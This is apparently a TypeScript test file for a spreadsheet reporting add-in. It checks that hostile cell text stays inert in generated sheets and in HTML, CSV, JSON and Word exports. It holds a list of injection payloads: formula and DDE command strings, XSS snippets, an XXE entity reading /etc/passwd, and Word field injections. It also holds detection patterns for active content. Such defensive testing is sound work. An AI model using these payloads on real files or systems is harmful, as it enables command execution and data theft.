import { unzipSync, strFromU8 } from "fflate";
import { Parser } from "htmlparser2";
import { reportFiles } from "../../src/commands/reportFile";
import { report } from "../../src/commands/report";
import { status } from "../../src/commands/status";
import { owed } from "../../src/commands/owed";
import { templates } from "../../src/commands/templates";
import { excelWorkbook } from "../../src/excel/workbook";
import { setCell, setFormula, newBook, newSheet, type Sheet } from "../../src/sheet/book";
import { bookHtml } from "../../src/sheet/html";
import { openHost } from "../../workbench/host";
import { bookOf, fileOf, NOW } from "../excel/kit";
import { dear } from "../whole";

/** What a spreadsheet program calculates or runs, a browser runs or fetches, and Word fetches, when it is taken as more than text. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://example.invalid")',
  '=HYPERLINK("http://example.invalid?x="&A1,"Klicka")',
  "+2+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "</td></table><iframe src=http://example.invalid></iframe>",
  "javascript:alert(1)",
  "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
  "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r><w:r><w:t>",
  '{ INCLUDETEXT "http://example.invalid/x" }',
];

/** A table of goals whose every text is a payload, beside figures that are graded. */
function hostile(): Sheet {
  const sheet = newSheet("Mål");
  const header = ["Område", "Mål", "Indikator", "Målvärde 2024", "Utfall 2024", "Kommentar", "Ansvarig nämnd"];
  header.forEach((text, column) => setCell(sheet, 0, column, text));
  PAYLOADS.forEach((text, at) => {
    const cells = [
      `${text} område`,
      `${text} mål`,
      `${text} mått`,
      "minst 90 %",
      at % 2 ? "91 %" : "70 %",
      text,
      `${text} nämnden`,
    ];
    cells.forEach((cell, column) => setCell(sheet, 1 + at, column, cell));
  });
  return sheet;
}

const open = async () => {
  const host = await openHost({ file: fileOf([hostile()]), now: NOW });
  return { host, surroundings: { workbook: excelWorkbook(host.Excel), now: NOW, progress: () => undefined } };
};

const CALLS = /cmd|webservice|dde|exec|call\(|rtd|import|image\(|example/iu;

/** A formula without its quoted texts and its quoted names of sheets, and those texts. */
function bare(formula: string): { rest: string; texts: string[] } {
  const texts: string[] = [];
  const rest = formula.replace(/"((?:[^"]|"")*)"|'(?:[^']|'')*'(?=!)/gu, (_, text: string | undefined) =>
    text === undefined ? "sheet" : `§${texts.push(text) - 1}§`,
  );
  return { rest, texts };
}

const formulasOf = (sheets: Sheet[]): string[] => sheets.flatMap(({ formulas }) => [...formulas.values()]);

/** Formulas that hold more of a payload than quoted text. */
const activeIn = (sheets: Sheet[]): string[] => formulasOf(sheets).filter((formula) => CALLS.test(bare(formula).rest));

/** Formulas with a link that leads out of the workbook. */
const linksOut = (sheets: Sheet[]): string[] =>
  formulasOf(sheets).filter((formula) => {
    const { rest, texts } = bare(formula);
    return [...rest.matchAll(/HYPERLINK\((?:§(\d+)§)?/giu)].some(([, at]) => !texts[Number(at)]?.startsWith("#"));
  });

test("the test's own eyes: a payload outside quotes, and a link that leads out, are seen", () => {
  const sheet = newSheet("Prov");
  for (const [row, formula] of ['=WEBSERVICE("x")', '=HYPERLINK("http://a","b")', "='=cmd'!A1", '="=cmd"'].entries())
    setFormula(sheet, row, 0, formula, null);
  expect([activeIn([sheet]), linksOut([sheet])]).toEqual([['=WEBSERVICE("x")'], ['=HYPERLINK("http://a","b")']]);
  expect(activeInPage('<p onclick="x"><a href="#a">1</a><a href="javascript:x">2</a><script></script>')).toHaveLength(
    3,
  );
});

const ACTIVE_TAGS = new Set(["script", "iframe", "object", "embed", "base", "form", "link"]);

/** What of a page a browser would run or fetch. */
function activeInPage(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (ACTIVE_TAGS.has(name)) found.push(name);
      for (const [key, value] of Object.entries(attributes))
        if (key.startsWith("on") || (/^(href|src|xlink:href|action)$/u.test(key) && !value.startsWith("#")))
          found.push(`${name} ${key}=${value}`);
    },
  });
  parser.end(html);
  return found;
}

dear("status sheets, report, templates and who owes what: no formula and no link of a payload", async () => {
  const { host, surroundings } = await open();
  for (const done of [
    await status.perform({}, surroundings),
    await report.perform({ kind: "arsredovisning", into: "sheets" }, surroundings),
    await templates.perform({}, surroundings),
    await owed.perform({}, surroundings),
  ])
    expect(done.ok).toBe(true);
  const sheets = bookOf(host.save()).sheets.filter(({ name }) => name !== "Mål");
  expect(sheets.length).toBeGreaterThan(PAYLOADS.length);
  const texts = sheets.flatMap(({ values }) => values.flatMap((row) => row ?? [])).map(String);
  for (const payload of PAYLOADS) expect(texts.some((text) => text.includes(payload))).toBe(true);
  expect([activeIn(sheets), linksOut(sheets)]).toEqual([[], []]);
  expect(activeInPage(bookHtml("Prov", sheets, { font: newBook().font }))).toEqual([]);
});

test("the page for the web and its data: nothing runs and nothing is fetched", async () => {
  const made = await reportFiles.perform(
    { kind: "arsredovisning", formats: ["html", "csv", "json"] },
    (await open()).surroundings,
  );
  if (!made.ok) throw new Error(made.reason);
  const [html = "", csv = "", json = ""] = made.value.map(({ bytes }) => new TextDecoder().decode(bytes));
  expect(activeInPage(html)).toEqual([]);
  expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  expect(csv.split(/,|\r\n/u).filter((field) => /^"?[=+@-]/u.test(field))).toEqual([]);
  expect(JSON.parse(json)).toMatchObject({ indicators: expect.any(Array) as unknown });
});

test("the Word document: every payload is text, no field and no relation leads out", async () => {
  const made = await reportFiles.perform({ kind: "arsredovisning", formats: ["docx"] }, (await open()).surroundings);
  if (!made.ok) throw new Error(made.reason);
  const parts = Object.entries(unzipSync(made.value[0]!.bytes)).map(
    ([name, bytes]) => [name, strFromU8(bytes)] as const,
  );
  const document = parts.find(([name]) => name === "word/document.xml")?.[1] ?? "";
  expect(document).toContain("&lt;script&gt;");
  const fields = [...document.matchAll(/<w:instrText[^>]*>([^<]*)<|<w:fldSimple[^>]*w:instr="([^"]*)"/gu)].map(
    ([, a, b]) => a ?? b ?? "",
  );
  expect(fields.filter((field) => !/^\s*(?:TOC|PAGE|NUMPAGES|PAGEREF|REF|STYLEREF)\b/u.test(field))).toEqual([]);
  const relations = parts
    .filter(([name]) => name.endsWith(".rels"))
    .flatMap(([, text]) => [...text.matchAll(/Target="([^"]*)"[^>]*TargetMode="External"/gu)]);
  expect(relations.map(([, target]) => target)).toEqual([]);
});
